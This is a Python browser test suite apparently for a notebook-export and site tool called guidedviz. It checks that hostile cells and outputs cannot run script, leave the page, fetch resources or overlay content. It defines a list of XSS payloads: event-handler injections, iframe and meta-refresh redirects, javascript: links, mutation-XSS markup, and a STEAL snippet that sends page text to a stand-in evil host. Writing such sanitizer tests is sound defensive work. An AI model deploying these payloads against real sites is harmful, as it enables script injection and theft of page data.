"""The author of a notebook attacks who reads its page: `jupyter nbconvert --to guidedviz`, and the site.

The author writes every cell and every output, and knows all of our code. Nothing of it may run, leave the page, be
fetched, or lie over the page; the honest recordings of the page still play.
"""

import re

import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from guidedviz.decoding.recording import compress
from guidedviz.widgets.clean import clean
from guidedviz.widgets.display import RECORDING
from guidedviz.widgets.notebook_page import STATE, VIEW, PageExporter
from guidedviz.widgets.player_page import BUNDLES, page_css, play_page, play_place
from tests.browser.test_hostile import honest, shown
from tests.site.load import BUILD, load_site

__all__ = ["shown"]
pytestmark = pytest.mark.browser
EVIL = "http://evil.invalid/"
STEAL = f"location='{EVIL}?'+encodeURIComponent(document.body.textContent.slice(0,500))"
PACKED = f'<script type="text/plain">{compress({})}</script>'
PLACE = f'<div class="gv-place" data-kind="map" data-nonce="x">{PACKED}</div>'
CODE = f"""<script type="text/plain" data-code="map">{STEAL}</script>"""
BLOCK = f"""<script>window.guidedvizKinds={{map:{{render(){{{STEAL}}}}}}}</script>"""
REFRESH = f"""<meta http-equiv="refresh" content="0;url={EVIL}">"""
HTML = {  # as an output and as a markdown cell
    "a place with its code": PLACE + CODE,
    "a place, and code under the names of today": PLACE + BLOCK,
    "a script with a guessed nonce": f'<script nonce="x" data-nonce="x">{STEAL}</script>',
    "a refresh": REFRESH,
    "another base": f'<base href="{EVIL}"><a href="a">a</a>',
    "a frame": f"""<iframe srcdoc="<script>top.{STEAL}</script>"></iframe><iframe src="{EVIL}"></iframe>""",
    "an object": f'<object data="{EVIL}"></object><embed src="{EVIL}">',
    "a style sheet": f'<link rel="stylesheet" href="{EVIL}"><style>@import "{EVIL}"; body {{ display: none }}</style>',
    "handlers": f"""<img src="x:" alt="a" onerror="{STEAL}"><details open ontoggle="{STEAL}"><p>a</p></details>""",
    "pictures of another host": f'<img alt="a" src="{EVIL}1"><p style="background:url({EVIL}2)">a</p>',
    "what lies over the page": '<div style="position:fixed;inset:0;z-index:99;background:red">a</div>'
    '<p class="gv-tip jp-Dialog gv-place" style="margin:-900px;padding:900px;background:red">a</p>',
    "a drawing that is moved over the page": '<svg transform="scale(9)" width="9"><rect width="9" height="9"/></svg>',
    "links that are pages": '<a href="data:text/html,a">a</a><a href="d&#10;ata:text/html,a">a</a>',
    "names of the document": '<img name="body" alt="a"><form name="currentScript"><input name="head"></form>',
    "a drawing": f"""<svg><foreignObject><div class="gv-place"></div>{REFRESH}</foreignObject><use href="{EVIL}#a"/>
        <image href="{EVIL}" width="9"/><a href="javascript:{STEAL}">a</a><style>* {{ opacity: 0 }}</style></svg>""",
    "the end of its cell": f"</pre></div></div></figure></div></div></main>{PLACE}{CODE}{REFRESH}<div><pre>",
    "markup that changes when it is read again": f"""<noscript><p title="</noscript>{REFRESH}">a</p></noscript>
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;{REFRESH}">""",
    "an attribute without an end": f'{REFRESH}<img alt="',
}


def output(data, **more):
    return new_code_cell("1", outputs=[new_output("display_data", data, **more)])


ALL = PLACE + CODE + BLOCK + REFRESH + HTML["a frame"] + HTML["handlers"]
FORMS = {
    "text/html": lambda html: output({"text/html": html}),
    "markdown": new_markdown_cell,
}
CELLS = {
    **{f"{name}, {form}": make(html) for form, make in FORMS.items() for name, html in HTML.items()},
    "a raw cell": new_raw_cell(ALL, metadata={"raw_mimetype": "text/html"}),
    "an output of Markdown": output({"text/markdown": ALL}),
    "an output of SVG": output({"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{ALL}</svg>"}),
    "an output of LaTeX": output({"text/latex": ALL}),
    "an output of JavaScript": output({"application/javascript": STEAL, "text/html": ALL}),
    "an output of Mermaid": output({"text/vnd.mermaid": f"</pre>{ALL}"}),
    "a picture's size": output(
        {"image/png": "AA=="}, metadata={"image/png": {"width": "1 onerror=a() class=gv-place"}}
    ),
    "a picture that is none": output({"image/png": f'"><p>{ALL}'}),
    "a widget that is not ours": output({VIEW: {"model_id": f"</script>{ALL}"}, "text/html": ALL}),
    "what a cell prints": new_code_cell("1", outputs=[new_output("stream", text=f"\x1b[31m</pre>{ALL}")]),
    "what an error says": new_code_cell("1", outputs=[new_output("error", ename=ALL, evalue=ALL, traceback=[ALL])]),
    "the source of a cell": new_code_cell(f"</pre>{ALL}"),
    "the tags of a cell": new_code_cell("1", metadata={"tags": ["x gv-place gv-tip jp-Dialog"]}),
}
CELLS["an output that says it is a place"] = output({"text/plain": "a"})
CELLS["an output that says it is a place"].outputs[0].update(place=ALL, kind="map")
STRANGE = (
    "script, style, meta, base, link, iframe, object, embed, form, input, foreignObject, use, math, noscript, [name], "
    "svg[transform]"
)
LOOK = """strange => {
  const brought = [...document.querySelectorAll("main *:not(.gv-place, .gv-place *)")];
  const does = ({ name, value }) => /^on/i.test(name) || /^\\s*javascript:/i.test(value);
  const isPage = ({ protocol }) => protocol === "data:";
  const isOver = ({ position, marginTop }) => /fixed|absolute|sticky/.test(position) || parseFloat(marginTop) < 0;
  const found = [
    ...brought.filter((one) => one.matches(strange) || isPage(one) || isOver(getComputedStyle(one))),
    ...[...document.querySelectorAll("*")].filter((one) => [...one.attributes].some(does)),
  ];
  return [...found.map((one) => one.outerHTML.slice(0, 200)), document.baseURI].filter((one) => one !== location.href);
}"""
PLACES = "() => [...document.querySelectorAll('.gv-place')].map(({ dataset }) => dataset.kind)"


@pytest.fixture(scope="module")
def look(browser):
    """Opens a file, and says where the page is then, what it asked for or was refused, and what is strange on it."""
    context = browser.browser.new_context(viewport={"width": 1300, "height": 9000})
    context.route(f"{EVIL}**", lambda route: route.fulfill(body="stolen"))
    page = context.new_page()
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("console", lambda said: asked.append(said.text) if "Content Security Policy" in said.text else None)
    page.on("pageerror", lambda error: asked.append(str(error)))

    def open_file(path, folder):
        asked.clear()
        page.goto(f"file://{path}", wait_until="commit")
        page.wait_for_timeout(300)
        page.wait_for_load_state()
        if page.url != f"file://{path}":
            return f"the page left for {page.url}"
        page.wait_for_function(
            "() => [...document.querySelectorAll('.gv-still')].every((one) => one.previousSibling.hidden)"
        )
        wrong = [*page.evaluate(LOOK, STRANGE), *(frame.url for frame in page.frames[1:])]
        return wrong + [one for one in asked if not one.startswith((f"file://{folder}", "data:"))]

    open_file.page = page
    yield open_file
    context.close()


def open_export(look, cells, kinds, folder, **still):
    """Open the page of a notebook with some cells, and with widgets of these kinds that were saved."""
    state = {f"m{kind}": {"state": {"kind": kind, "saved": one}} for kind, one in kinds.items()}
    views = [new_output("display_data", {VIEW: {"model_id": name}, "text/plain": "a still", **still}) for name in state]
    notebook = new_notebook(metadata={"widgets": {STATE: {"state": state}}})
    notebook.cells = [new_markdown_cell("# My answer is 42"), *cells, new_code_cell("1", outputs=views)]
    html, _ = PageExporter(skip_svg_encoding=True).from_notebook_node(notebook, {"metadata": {"name": "a"}})
    (folder / "page.html").write_text(html, encoding="utf-8")
    return look(folder / "page.html", folder / "page.html")


def test_no_cell_of_the_author_does_anything_on_an_exported_page_and_all_that_was_saved_plays(shown, look, tmp_path):
    kinds = honest(shown)
    assert open_export(look, CELLS.values(), kinds, tmp_path) == []
    assert look.page.evaluate(PLACES) == [*kinds]
    assert look.page.locator(".gv-place > .gv").count() == len(kinds)
    assert look.page.locator(".gv-still").count() == 0, "the stills have left"
    for root, key, field in (".gv-film", "End", "frame"), (".gv-stage[data-cursor]", "ArrowRight", "cursor"):
        node = look.page.locator(f".gv-place {root}").first
        before = node.get_attribute(f"data-{field}")
        node.press(key)
        assert node.get_attribute(f"data-{field}") != before


def test_no_cell_of_the_author_does_anything_on_a_page_of_the_site(shown, look, tmp_path):
    site = load_site()
    film = honest(shown)["film"]
    site.write_files(tmp_path / "files")
    data = {RECORDING: {"kind": "film", "shown": film, "step": 0}, "text/html": "<p>still</p>"}
    notebook = new_notebook()
    cells = [cell for cell in CELLS.values() if cell.cell_type != "raw"]
    notebook.cells = [new_markdown_cell("# A"), *cells, new_code_cell("1", outputs=[new_output("display_data", data)])]
    page = site.Place("index.html", "a")
    (tmp_path / "index.html").write_text(site.render(notebook, page, [page]), encoding="utf-8")
    assert look(tmp_path / "index.html", tmp_path) == []
    assert look.page.evaluate(PLACES) == ["film"]
    assert look.page.locator(".gv-place > .gv-film").count() == 1


DAMAGED = {"film": {"frames": 7}, "stage": {"add": [None]}, "fold": {"chains": "x"}, "predict": {"question": None}}


def test_where_a_saved_widget_cannot_be_shown_its_still_output_stays(look, tmp_path):
    kinds = DAMAGED | {"score": {"words": float("nan")}}
    assert open_export(look, [], kinds, tmp_path, **{"text/html": f"<p>a still</p>{ALL}"}) == []
    assert look.page.locator(".gv-still:visible p").filter(has_text="a still").count() == len(kinds)


def test_a_place_that_does_not_know_the_nonce_is_not_played_and_a_script_beside_ours_does_not_run(
    shown, look, tmp_path
):
    """Should anything get past the sanitizer."""
    film = compress(honest(shown)["film"])
    forged = f"{play_place('film', film, 'x')}{play_place('film', film, None)}<script>window.ran = 1</script>"
    page = play_page("a run", "film", film, 0)
    (tmp_path / "page.html").write_text(page.replace("<main>", f"<main>{forged}"), encoding="utf-8")
    said = "\n".join(look(tmp_path / "page.html", tmp_path))
    assert "Executing inline script violates" in said
    assert look.page.evaluate("window.ran") is None
    assert look.page.locator(".gv-place").count() == 3
    assert look.page.locator(".gv-place > .gv-film").count() == 1


def test_no_class_that_is_kept_takes_a_part_out_of_its_place():
    """A page's style sheets move some parts over others; what a notebook brings cannot ask for it."""
    sheets = [
        page_css(),
        (BUILD.parent / "site.css").read_text("utf-8"),
        *(path.read_text("utf-8") for path in BUNDLES.glob("*.css")),
    ]
    moved = set()
    for selector, rule in re.findall(r"([^{}]+)\{([^{}]*)\}", "".join(sheets)):
        if re.search(r"position: ?(absolute|fixed|sticky)|margin[^:]*:[^;]*(?<!\w)-", rule):
            moved |= {
                name
                for part in selector.split(",")
                for name in re.findall(r"\.([\w-]+)", part.split()[-1] if part.split() else "")
            }
    assert {"gv-tip", "bar", "skip"} <= moved
    for name in sorted(moved):
        assert clean(f'<p class="{name}">a</p><svg class="{name}"></svg>') == "<p>a</p><svg></svg>", name
